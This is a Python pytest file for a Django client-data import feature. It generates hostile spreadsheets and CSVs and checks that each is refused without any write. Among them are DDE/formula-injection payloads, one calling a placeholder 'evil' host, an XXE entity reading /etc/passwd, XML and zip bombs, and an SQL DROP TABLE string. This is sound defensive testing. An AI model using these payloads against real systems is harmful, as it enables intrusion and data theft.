"""The hostile-input corpus, against both real imports (clients, holdings).

Every file is generated here (nothing binary is committed): wrong and mixed encodings, binary garbage,
truncated, encrypted and disguised workbooks, zip bombs, XML entity bombs and external entities,
formula / DDE injection, duplicate keys, absurd values, a 1 000 000-row file and a 200 000-row file
measured for memory. For each one the import must change nothing (clients, holdings, securities, audit
records), explain itself in Chinese, and stay within bounded memory and time.
"""

from __future__ import annotations

import datetime as dt
import gc
import io
import os
import re
import threading
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.test import override_settings

from branchcare.clients import import_specs  # noqa: F401  (registers the imports)
from branchcare.clients.models import Client, Holding, Security
from branchcare.core import imports
from branchcare.core.imports import ImportFileError, run_import
from branchcare.core.models import AuditLog

KINDS = ("clients", "holdings")
HEADERS = {
    "clients": ["客户号", "姓名", "手机", "证件号码", "风险等级", "资产", "客户经理", "开户日期"],
    "holdings": ["客户号", "证券代码", "证券名称", "持仓数量", "成本价", "日期"],
}
CJK = re.compile(r"[\u4e00-\u9fff]")
CLIENT_NO = "31009999"  # the client the holdings rows refer to (created by the fixture)
AS_OF = (dt.date.today() - dt.timedelta(days=3)).isoformat()


def good_row(kind: str, i: int) -> list[str]:
    if kind == "clients":
        return [
            f"{47000000 + i}",
            f"客户{i}",
            f"139{i:08d}",
            "310101199001011234",
            "C3",
            "1000.00",
            "",
            "2020-01-02",
        ]
    return [CLIENT_NO, f"{600000 + i % 900:06d}", f"证券{i % 900}", "100", "10.50", AS_OF]


def csv_text(kind: str, rows: list[list[str]]) -> str:
    return "\n".join(",".join(r) for r in [HEADERS[kind], *rows]) + "\n"


def xlsx_bytes(rows: list[list]) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def rezip(
    data: bytes, transform: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None
) -> bytes:
    """Copy a workbook's members through ``transform(name, data)`` (None drops the member)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            new = transform(info.filename, src.read(info))
            if new is not None:
                dst.writestr(info, new)
        for name, content in (extra or {}).items():
            dst.writestr(name, content)
    return out.getvalue()


LOL = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    b'<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>\n'
)
XXE = b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'


def _strip_decl(data: bytes) -> bytes:
    return data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data


def _set_encrypted_flag(data: bytes) -> bytes:
    """Mark every member as encrypted (general-purpose bit 0), as a password-protected zip is."""
    buf = bytearray(data)
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = buf.find(sig)
        while pos != -1:
            buf[pos + offset] |= 0x01
            pos = buf.find(sig, pos + 4)
    return bytes(buf)


# --- the corpus ---------------------------------------------------------------------------------------------
# Each case builds (file name, content) for an import kind and names what the refusal must say: the file is
# refused as a whole (ImportFileError) or, for "rows", read and refused row by row.


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[str], tuple[str, bytes]]
    says: tuple[str, ...]  # the message contains one of these
    rows: bool = False  # refused for bad rows (not as a whole file)


def _garbage(kind: str) -> bytes:
    return bytes(range(256)) * 64


def _zip_bomb(kind: str) -> tuple[str, bytes]:
    base = xlsx_bytes([HEADERS[kind], good_row(kind, 1)])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        with dst.open("xl/media/image1.png", "w", force_zip64=True) as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(64):  # 64 MB of zeros in about 64 KB
                member.write(chunk)
    return "bomb.xlsx", out.getvalue()


def _xml_bomb(kind: str) -> tuple[str, bytes]:
    base = xlsx_bytes([HEADERS[kind], good_row(kind, 1)])

    def inject(name: str, data: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            return LOL + _strip_decl(data).replace(b"<v>", b"<v>&lol4;", 1)
        return data

    return "lol.xlsx", rezip(base, inject)


def _xxe(kind: str) -> tuple[str, bytes]:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADERS[kind])
    ws.append(good_row(kind, 1))
    buf = io.BytesIO()
    wb.save(buf)

    def inject(name: str, data: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            return XXE + _strip_decl(data).replace(b"<v>", b"<v>&xxe;", 1)
        return data

    return "xxe.xlsx", rezip(buf.getvalue(), inject)


def _dtd_behind_padding(kind: str) -> tuple[str, bytes]:
    """The DTD pushed past the pre-scan window by a long comment: defusedxml must still refuse it."""
    base = xlsx_bytes([HEADERS[kind], good_row(kind, 1)])

    def inject(name: str, data: bytes) -> bytes:
        if name == "xl/worksheets/sheet1.xml":
            padding = b"<!--" + b"x" * 70_000 + b"-->\n"
            return b'<?xml version="1.0"?>\n' + padding + LOL.split(b"\n", 1)[1] + _strip_decl(data)
        return data

    return "padded.xlsx", rezip(base, inject)


def _truncated_xlsx(kind: str) -> tuple[str, bytes]:
    data = xlsx_bytes([HEADERS[kind], *[good_row(kind, i) for i in range(200)]])
    return "truncated.xlsx", data[: len(data) // 2]


def _workbook_without_sheet_data(kind: str) -> tuple[str, bytes]:
    base = xlsx_bytes([HEADERS[kind], good_row(kind, 1)])
    return "nosheet.xlsx", rezip(base, lambda n, d: None if n.startswith("xl/worksheets/") else d)


def _formula_injection_csv(kind: str) -> tuple[str, bytes]:
    evil = [
        "=cmd|' /C calc'!A0",
        '+HYPERLINK("http://evil")',
        "-2+3+cmd|' /C notepad'!A0",
        "@SUM(1+1)*cmd|'/C calc'!A0",
    ]
    rows = []
    for i, payload in enumerate(evil):
        row = good_row(kind, i)
        row[0] = payload  # the key column: never a valid client number
        rows.append(row)
    return "formulas.csv", csv_text(kind, rows).encode()


def _formula_injection_xlsx(kind: str) -> tuple[str, bytes]:
    rows: list[list] = [HEADERS[kind]]
    for i, payload in enumerate(["=1+2", '=WEBSERVICE("http://evil/"&A1)', '=HYPERLINK("x")']):
        row: list = good_row(kind, i)
        row[3] = payload  # 证件号码 / 持仓数量
        rows.append(row)
    return "formulas.xlsx", xlsx_bytes(rows)


def _duplicate_keys(kind: str) -> tuple[str, bytes]:
    rows = [good_row(kind, 1), good_row(kind, 2), good_row(kind, 1)]
    return "dupes.csv", csv_text(kind, rows).encode()


def _all_or_nothing(kind: str) -> tuple[str, bytes]:
    """Many good rows (one of them an SQL-injection-looking name) and a single bad one at the end."""
    rows = [good_row(kind, i) for i in range(500)]
    if kind == "clients":
        rows[10][1] = "'; DROP TABLE clients_client; --"
    else:
        rows[10][2] = "'; DROP TABLE clients_holding; --"
    bad = good_row(kind, 501)
    bad[-1] = "2026-02-30"  # a date that does not exist
    return "one-bad-row.csv", csv_text(kind, [*rows, bad]).encode()


def _absurd_values(kind: str) -> tuple[str, bytes]:
    row = good_row(kind, 1)
    if kind == "clients":
        row[5] = "1e400"  # 资产
        row[7] = "9999-99-99"
    else:
        row[3] = "-5"  # 持仓数量
        row[4] = "NaN"
    return "absurd.csv", csv_text(kind, [row]).encode()


def _shift_jis(kind: str) -> tuple[str, bytes]:
    # Japanese Shift_JIS is neither UTF-8 nor GB18030-sensible: refused by encoding or by its headers.
    return "sjis.csv", "ｶﾀｶﾅ,日本語テキスト,ソ\n１,表,能\n".encode("shift_jis")


def _utf16_without_bom(kind: str) -> tuple[str, bytes]:
    return "utf16.csv", csv_text(kind, [good_row(kind, 1)]).encode("utf-16-le")


def _column_twice(kind: str) -> tuple[str, bytes]:
    header = ",".join([*HEADERS[kind], "客户号"])
    row = ",".join([*good_row(kind, 1), good_row(kind, 1)[0]])
    return "twice.csv", f"{header}\n{row}\n".encode()


def _mixed_encodings(kind: str) -> tuple[str, bytes]:
    head = csv_text(kind, [good_row(kind, 1)]).encode("utf-8")
    return "mixed.csv", head + "张三".encode("gbk") + b"\xff\xfe\x80\n"


CORPUS: list[Case] = [
    Case("empty", lambda k: ("empty.csv", b""), ("文件为空",)),
    Case("blank-lines", lambda k: ("blank.csv", b"\n \n,,,\n\t\n"), ("没有任何内容",)),
    Case("header-only", lambda k: ("header.csv", csv_text(k, []).encode()), ("没有数据行",)),
    Case("garbage-as-csv", lambda k: ("garbage.csv", _garbage(k)), ("无法识别",)),
    Case("garbage-as-xlsx", lambda k: ("garbage.xlsx", _garbage(k)), ("不是 Excel",)),
    Case(
        "nul-bytes-csv",
        lambda k: ("nul.csv", csv_text(k, [good_row(k, 1)]).encode().replace(b",", b"\0")),
        ("无法识别",),
    ),
    Case(
        "text-renamed-xlsx",
        lambda k: ("renamed.xlsx", csv_text(k, [good_row(k, 1)]).encode()),
        ("内容不是 Excel",),
    ),
    Case("old-xls", lambda k: ("old.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2048), (".xls",)),
    Case("exe-extension", lambda k: ("setup.exe", b"MZ\x90\x00" + b"\0" * 100), ("不支持的文件类型",)),
    Case("truncated-xlsx", _truncated_xlsx, ("已损坏",)),
    Case(
        "zip-not-workbook",
        lambda k: (
            "archive.xlsx",
            rezip(xlsx_bytes([["x"]]), lambda n, d: None if n == "[Content_Types].xml" else d),
        ),
        ("不是 Excel 工作簿",),
    ),
    Case("workbook-without-sheet", _workbook_without_sheet_data, ("已损坏", "没有工作表")),
    Case(
        "encrypted-zip",
        lambda k: ("locked.xlsx", _set_encrypted_flag(xlsx_bytes([HEADERS[k], good_row(k, 1)]))),
        ("已加密",),
    ),
    Case("zip-bomb", _zip_bomb, ("压缩炸弹",)),
    Case("xml-entity-bomb", _xml_bomb, ("不安全的 XML",)),
    Case("xml-external-entity", _xxe, ("不安全的 XML",)),
    Case("dtd-behind-padding", _dtd_behind_padding, ("不安全的 XML",)),
    Case(
        "undecodable-bytes",
        lambda k: ("bad.csv", csv_text(k, []).encode() + b"1,\x80\xff\x80\xff\n"),
        ("编码",),
    ),
    Case("mixed-encodings", _mixed_encodings, ("编码",)),
    Case("shift-jis", _shift_jis, ("编码", "缺少必需的列")),
    Case("utf16-without-bom", _utf16_without_bom, ("无法识别",)),
    Case("missing-columns", lambda k: ("cols.csv", "客户号,备注\n1,x\n".encode()), ("缺少必需的列",)),
    Case("column-twice", _column_twice, ("都表示",)),
    Case(
        "huge-field",
        lambda k: ("field.csv", (csv_text(k, []) + "1," + "x" * 300_000 + "\n").encode()),
        ("CSV 格式错误",),
    ),
    Case(
        "unterminated-quote",
        lambda k: ("quote.csv", (csv_text(k, []) + '"1,' + "y" * 200_000).encode()),
        ("CSV 格式错误",),
    ),
    Case("formula-injection-csv", _formula_injection_csv, ("客户号只能包含", "不存在"), rows=True),
    Case(
        "formula-injection-xlsx", _formula_injection_xlsx, ("证件号码格式不正确", "不是有效的数字"), rows=True
    ),
    Case("duplicate-keys", _duplicate_keys, ("与第 2 行重复",), rows=True),
    Case("all-or-nothing", _all_or_nothing, ("日期不存在",), rows=True),
    Case(
        "absurd-values",
        _absurd_values,
        ("不是有效的数字", "数值过大", "不能小于", "无法识别的日期", "日期"),
        rows=True,
    ),
]


@pytest.fixture
def setup(world):
    """The branch, its director, and the client the holdings rows name (with one position to keep)."""
    from branchcare.testing.factories import ClientFactory, HoldingFactory, SecurityFactory

    client = ClientFactory(branch=world.b1, manager=world["manager1"], client_no=CLIENT_NO)
    HoldingFactory(client=client, security=SecurityFactory(code="600000", exchange="SH"))
    return world


def snapshot() -> tuple[int, ...]:
    return (
        Client.objects.count(),
        Holding.objects.count(),
        Security.objects.count(),
        AuditLog.objects.count(),
        hash(tuple(Client.objects.order_by("pk").values_list("version", flat=True))),
    )


def attempt(world, kind: str, path: Path, name: str) -> str:
    """Import ``path`` for real; the Chinese message(s) of the refusal. Fails if anything was written."""
    spec = imports.get_spec(kind)
    try:
        result = run_import(spec, path, file_name=name, branch=world.b1, actor=world["director"])
    except ImportFileError as exc:
        return exc.message
    assert not result.committed, f"{name} was imported: {result.summary(spec)}"
    assert result.bad_rows > 0 and result.errors
    return "\n".join([result.summary(spec), *(str(e) for e in result.errors)])


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
def test_hostile_file_changes_nothing_and_says_why_in_chinese(setup, tmp_path, kind, case):
    name, content = case.build(kind)
    path = tmp_path / name
    path.write_bytes(content)
    before = snapshot()
    tracemalloc.start()
    started = time.perf_counter()
    try:
        message = attempt(setup, kind, path, name)
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert snapshot() == before
    assert CJK.search(message), message
    assert any(s in message for s in case.says), message
    if case.rows:
        assert "未写入任何数据" in message
    assert time.perf_counter() - started < 10
    assert peak < 64 * 1024 * 1024, f"{case.name}: {peak / 2**20:.0f} MB"


def test_corpus_is_large_enough():
    assert len(CORPUS) >= 20


@pytest.mark.parametrize("kind", KINDS)
def test_million_row_file_is_refused_quickly_and_in_flat_memory(setup, tmp_path, kind):
    """1 000 000 rows (tens of MB), written here as a stream, over a cap lowered to 100 000: refused
    from the line count before any row is parsed."""
    path = tmp_path / "million.csv"
    line = ",".join(good_row(kind, 7)) + "\n"
    with open(path, "w", encoding="utf-8") as f:
        f.write(",".join(HEADERS[kind]) + "\n")
        block = line * 10_000
        for _ in range(100):
            f.write(block)
    assert path.stat().st_size > 30 * 1024 * 1024
    before = snapshot()
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with override_settings(BRANCHCARE={**settings.BRANCHCARE, "IMPORT_MAX_ROWS": 100_000}):
            message = attempt(setup, kind, path, "million.csv")
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    elapsed = time.perf_counter() - started
    assert "超过上限（100000 行）" in message
    assert snapshot() == before
    assert elapsed < 10, elapsed
    assert peak < 32 * 1024 * 1024, f"{peak / 2**20:.0f} MB"


class PeakRss:
    """Peak growth of this process's resident memory while the block runs, sampled every 10 ms from
    /proc (no tracing overhead, so a large file can be measured at full speed)."""

    def __init__(self) -> None:
        self.start = self.peak = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)

    @staticmethod
    def rss() -> int:
        with open("/proc/self/statm") as f:
            return int(f.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")

    def _sample(self) -> None:
        while not self._stop.wait(0.01):
            self.peak = max(self.peak, self.rss())

    def __enter__(self) -> PeakRss:
        gc.collect()
        self.start = self.peak = self.rss()
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, self.rss())

    @property
    def growth(self) -> int:
        return self.peak - self.start


@pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="needs /proc to read the memory use")
def test_large_file_is_validated_in_bounded_memory_and_refused_whole(setup, tmp_path):
    """200 000 client rows, every one read, parsed and checked against the database, the last one bad:
    nothing is written, and the validated records, spooled to disk, never pile up in memory."""
    rows = 200_000
    path = tmp_path / "big.csv"
    with open(path, "w", encoding="utf-8") as f:
        f.write(",".join(HEADERS["clients"]) + "\n")
        f.writelines(",".join(good_row("clients", i)) + "\n" for i in range(rows - 1))
        f.write(",".join(good_row("clients", rows)[:7] + ["2026-13-45"]) + "\n")
    assert path.stat().st_size > 10 * 1024 * 1024
    before = snapshot()
    started = time.perf_counter()
    with PeakRss() as memory:
        message = attempt(setup, "clients", path, "big.csv")
    elapsed = time.perf_counter() - started
    assert "发现 1 行错误，未写入任何数据" in message
    assert f"第 {rows + 1} 行" in message
    assert snapshot() == before
    assert memory.growth < 200 * 1024 * 1024, f"{memory.growth / 2**20:.0f} MB"
    assert elapsed < 60, elapsed


def test_error_report_of_a_hostile_file_is_formula_safe(setup, tmp_path):
    name, content = _formula_injection_csv("clients")
    path = tmp_path / name
    path.write_bytes(content)
    spec = imports.get_spec("clients")
    result = run_import(spec, path, file_name=name, branch=setup.b1, actor=setup["director"])
    ws = openpyxl.load_workbook(io.BytesIO(imports.error_report_xlsx(result.errors))).active
    values = [row[2] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert values and all(not str(v).startswith(("=", "+", "-", "@")) for v in values), values
